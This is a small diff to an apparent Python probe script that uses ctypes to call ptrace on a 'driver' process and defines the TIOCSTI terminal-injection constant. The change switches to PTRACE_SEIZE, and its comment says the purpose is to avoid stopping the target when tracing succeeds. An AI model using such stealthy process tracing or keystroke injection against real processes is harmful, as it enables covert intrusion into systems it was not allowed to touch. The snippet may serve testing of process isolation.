@@ -18,7 +18,7 @@ import socket
 PLACE = globals().get("PLACE", "")
 DRIVER = globals().get("DRIVER", 0)
 TIOCSTI = 0x5412
-PTRACE_ATTACH = 16
+PTRACE_SEIZE = 0x4206  # unlike an attachment it does not stop the driver, should it succeed
 libc = ctypes.CDLL(None, use_errno=True)
 
 
@@ -50,7 +50,7 @@ def read_environment() -> object:
 
 
 def trace() -> object:
-    done(libc.ptrace(PTRACE_ATTACH, DRIVER, None, None))
+    done(libc.ptrace(PTRACE_SEIZE, DRIVER, None, None))
 
 
 def signal() -> object:
